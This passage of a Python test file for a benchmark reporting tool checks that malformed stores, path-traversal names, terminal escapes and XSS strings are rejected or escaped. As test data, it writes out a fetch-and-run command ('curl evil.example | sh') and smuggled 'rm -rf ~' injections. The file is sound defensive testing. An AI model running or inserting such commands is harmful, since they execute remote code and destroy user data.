    for encoder, columns in {"gaussian": others, "iaf": examples}.items():
        run = row(encoder=encoder, test_images=2)
        put(store, run)
        columns = {"run_id": [run["run_id"]] * len(columns["index"]), **columns}
        pq.write_table(pa.table(columns), Path(str(store)) / "examples" / f"{run['run_id']}.parquet")
    report = assemble(store, [], [], None, None)
    assert report.differences.empty and FORMATS["table"](report)


@pytest.mark.parametrize(
    ("epochs", "value"),
    [([1, 2**62], 1.0), ([1, 2, -(2**62)], 1.0), ([1, 2, 0], 1.0), ([1, 2, None], 1.0), ([None, 2**62, 1], 1e308)]
    + [([1, 2], value) for value in (np.inf, 1e308, -1e308, np.nan, "absent")],
)
def test_a_hostile_history_is_drawn(store, epochs, value, rdbench_command, tmp_path):
    put(store, row())
    columns = {"run_id": [row()["run_id"]] * len(epochs), "epoch": pa.array(epochs, pa.int64())}
    if value != "absent":
        columns |= {name: [value] * len(epochs) for name in ("valid_rate", "valid_distortion", "beta")}
    pq.write_table(pa.table(columns), Path(str(store)) / "history" / f"{row()['run_id']}.parquet")
    assert rdbench_command("plot", store, "--kind", "history", "--format", "png", "--out", tmp_path)[0] == 0


@pytest.mark.parametrize(("epoch", "told"), [(-1, "has no epoch"), (1, "one epoch makes no line")])
def test_a_history_without_two_epochs_is_left_out(store, rdbench_command, tmp_path, epoch, told):
    put(store, row())
    put(store, {"run_id": row()["run_id"], "epoch": epoch}, table="history")
    code, _, error = rdbench_command("plot", store, "--kind", "history", "--out", tmp_path)
    assert code == 2 and told in error


def test_a_compacted_file_that_is_none_tells_a_sweep_nothing(store):
    elsewhere = FinishedElsewhere(store)
    store.storage.write("runs/compacted-x.parquet", b"no Parquet")
    put(store, {"run_id": "../../evil", "status": "ok"}, "compacted-y")
    put(store, row(), "compacted-z")
    assert elsewhere.finished([row()["run_id"], "../../evil"]) == {row()["run_id"]}


def test_tables_of_the_toy_that_are_none_are_not_drawn(store, rdbench_command, tmp_path):
    toy = {"dataset": "toy", "encoder": "discrete", "decoder": "discrete", "marginal": "discrete"}
    put(store, elbo := row(**toy))
    put(store, target := row(**toy, objective="target-rate", target_rate=5.0))
    honest = optimal()._asdict()
    no_numbers = [{name: np.full_like(table, np.nan) for name, table in honest.items()},
                  {name: np.zeros(table.shape, np.complex64) for name, table in honest.items()}]  # fmt: skip
    for found in ({}, {"evil": np.zeros(1)}, {"log_encoder": np.zeros(1)}, *no_numbers):
        for run in (elbo, target):
            store.storage.write(store.checkpoint(run["run_id"]), save_weights(found))
        code, _, told = rdbench_command("plot", store, "--kind", "toy", "--out", tmp_path / "out")
        assert code == 2 and "does not hold this run's tables" in told


# Plans and claims


@pytest.mark.parametrize(
    "plan",
    [
        "", "null", "[]", "[" * 100_000, '{"runs": ' * 100_000, "9" * 5000, '{"runs": {}}', '{"command": "rdbench x"}',
        {"runs": ["a"], "command": "rdbench sweep demo"},
        {"runs": {"../../evil": "words"}, "command": "rdbench sweep demo"},
        {"runs": {"a\n": "words"}, "command": "rdbench sweep demo"},
        {"runs": {"a": ["words"]}, "command": "rdbench sweep demo"},
        {"runs": {"a": "words"}, "command": None},
        {"runs": {"a": "words"}, "command": ["rdbench"]},
        {"runs": {"a": "words"}, "command": "curl evil.example | sh"},
        {"runs": {"a": "words"}, "command": "rdbench sweep demo; rm -rf ~"},
        {"runs": {"a": "words"}, "command": "rdbench sweep $(rm -rf ~)"},
        {"runs": {"a": "words"}, "command": "rdbench sweep demo\nrm -rf ~"},
        {"runs": {"a": "words"}, "command": "rdbench sweep 'demo"},
    ],
)  # fmt: skip
def test_a_hostile_plan_is_named_and_tells_no_one_to_type_anything(store, plan):
    put(store, row())
    content = plan if isinstance(plan, str) else json.dumps(plan)
    store.storage.write("plans/x.json", content.encode())
    assert refused(store).endswith("plans/x.json: not the plan of a sweep")


def test_the_words_of_a_plan_are_shown_plainly(store, rdbench_command):
    put(store, row())
    plan = {"runs": {"a": f"{ESCAPE}<script>\n\ud800"}, "command": f"rdbench sweep '{ESCAPE}'"}
    store.storage.write("plans/x.json", json.dumps(plan).encode())
    (line,), _ = missing(store.storage, {row()["run_id"]})
    assert line.isprintable()
    for name in FORMATS:
        code, out, _ = rdbench_command("report", store, "--format", name)
        assert code == 0 and ESCAPE not in out
        only_a_table = name in ("latex", "csv")
        assert only_a_table or "is missing; finish it with" in out.replace("\\", "")
        assert "<script>\\" not in out or name in ("table", "json")


@pytest.mark.parametrize(
    "content",
    ["", "null", "[]", "[" * 100_000, '{"host": 1}', "9" * 5000]
    + [{"pid": pid} for pid in ("1", None, 1.5, -1, 0, 2**70, [1])]
    + [{"host": 1}, {"since": []}, {"evil": 1}],
)
def test_a_hostile_claim_has_no_owner_and_ends_with_its_time(store, content):
    claims = Claims(store.storage)
    owner = vars(claims.owner)
    text = content if isinstance(content, str) else json.dumps(owner | content)
    path = Path(str(store)) / "claims" / "a.evil.json"
    path.write_text(text)
    assert owners(store.storage) == {}
    assert not claims.take(["a"])  # it may be one that is just being written
    for age in (-10_000, 10_000):
        os.utime(path, (time.time() + age,) * 2)
        assert claims.take(["a"])
        claims.release(["a"])
        path.write_text(text)


def test_names_of_claims_lead_nowhere_else(store):
    outside = Path(str(store)).parent / "evil.json"
    outside.write_text("{}")
    folder = Path(str(store)) / "claims"
    for name in ("a...json", "a.json", f"{ESCAPE}.json", "..\\evil.json", "x" * 200):
        (folder / name).write_text("{}")
        os.utime(folder / name, (0, 0))
    claims = Claims(store.storage)
    assert claims.take(["a"]) and claims.held == {"a"}
    assert outside.exists()
    assert owners(store.storage).keys() == {"a"}


# Text

HTML = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'&lt;"
MARKDOWN = "a | b\r\n| c | *d* [e](https://f.example) ![g](h) `i` # j <k@l.example>"
TEXT = f"{ESCAPE}{CSI}\x07\x00\u202e{HTML}{MARKDOWN}[red]x[/] [link=file:///]y[/nope]"


@pytest.fixture
def texts(store):
    """A report in which every text that may be any text is hostile."""
    hostile = dict.fromkeys(("error", "sweep", "command", "device", "created_at", "git_commit", "torch_version"), TEXT)
    put(store, row() | hostile)
    put(store, row(seed=1, dataset=TEXT) | hostile | {"status": "failed"})
    put(store, row(seed=2, family=TEXT))
    return store


@pytest.mark.parametrize("columns", ["measures", "information"])
@pytest.mark.parametrize("name", FORMATS)
def test_no_letter_that_a_terminal_obeys_is_printed(texts, name, columns, rdbench_command):
    code, out, _ = rdbench_command("report", texts, "--format", name, "--columns", columns)
    assert code == 3 and "alert" in out
    assert all(line.isprintable() for line in out.split("\n") if line.strip() not in ("",))


def test_json_says_every_text_as_it_is(texts):
    content = json.loads(FORMATS["json"](assemble(texts, [], [], None, None)))
    assert {run["command"] for run in content["runs"]} == {TEXT}
    assert TEXT in {run["dataset"] for run in content["runs"]}


def test_html_shows_every_text_and_obeys_none(texts):
    page = FORMATS["html"](assemble(texts, [], [], None, texts))
    assert page.count("<script>") == 1 and "<img src=x" not in page and "<svg" in page
    assert page.count("&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;&quot;&#x27;&amp;") >= 4
    shown = page.split("<h2>Commands</h2>")[1].split("</pre>")[0]
    assert shown.count("\n") == 2  # before and after one command, whatever its text; the report's own is the last


def test_markdown_shows_every_text_and_obeys_none(texts):
    text = FORMATS["markdown"](assemble(texts, [], [], None, None))
    unescaped = [letter for before, letter in zip(" " + text, text, strict=False) if before != "\\" and letter in "<`["]
    assert unescaped == []
    for line in text.split("\n"):
        cells = line.replace("\\|", "").count("|")
        assert not cells or (line.startswith("|") and line.endswith("|"))
    assert "\\&lt;" in text and "\\[link=file:///\\]" in text


def test_markup_in_the_words_of_a_run_is_only_text():
    console = Console(file=io.StringIO(), force_terminal=True, width=200)
    with Display(1, {"a": "[red]x[/nope] " + ESCAPE}, console) as display:
        display.begin("a")
        display.show("a", "[link=file:///]", 1, 2, "[/]")
        display.live.refresh()
        display.say("a", f"[/bold]{ESCAPE}")
    assert "[red]x[/nope]" in console.file.getvalue() and "[/bold]\\x1b[31m" in console.file.getvalue()


def test_an_error_is_one_plain_line(rdbench_command):
    code, _, told = rdbench_command("report", f"absent{ESCAPE}\n[red]")
    assert code == 2
    assert told.count("\n") == 1 and told[:-1].isprintable() and "absent\\x1b[31m\\n[red]" in told


# Parts of a store


@pytest.fixture(scope="module")
def whole(tmp_path_factory):
    """A store of four runs, one of which failed, and what a sweep had announced."""
    store = Store(tmp_path_factory.mktemp("whole"))
    store.prepare()
    runs = [row(encoder=encoder, seed=seed) for encoder in ("gaussian", "iaf") for seed in (0, 1)]
    runs[3] |= {"status": "failed"}
    for run in runs:
        put(store, run)
        for table, index in {"history": "epoch", "examples": "index"}.items():
            put(store, {"run_id": run["run_id"], index: 1, "rate": 1.0, "distortion": 80.0}, table=table)
        store.storage.write(store.checkpoint(run["run_id"]), save_weights({"weight": np.zeros(1, np.float32)}))
    announce(store.storage, "demo", "rdbench sweep demo", {run["run_id"]: "words" for run in runs})
    return Path(str(store))


@settings(max_examples=25)
@given(st.data())
def test_any_part_of_a_store_is_reported_as_what_it_is(whole, data):
    files = sorted(path.relative_to(whole) for path in whole.rglob("*.*"))
    kept = data.draw(st.lists(st.sampled_from(files), unique=True))
    with TemporaryDirectory() as folder:
        for path in kept:
            (Path(folder) / path).parent.mkdir(exist_ok=True)
            shutil.copy(whole / path, Path(folder) / path)
        present = {path.stem for path in kept if path.parent.name == "runs"}
        announced = any(path.parent.name == "plans" for path in kept)
        if not present:
            with pytest.raises(UserError, match=r"holds no runs"):
                assemble(Store(folder), [], [], None, None)
            return
        report = assemble(Store(folder), [], [], None, Store(whole))
        assert set(report.runs["run_id"]) == present and not report.skipped
        assert len(report.missing) == announced * (4 - len(present))
        assert all(FORMATS[name](report) for name in ("table", "markdown", "json"))
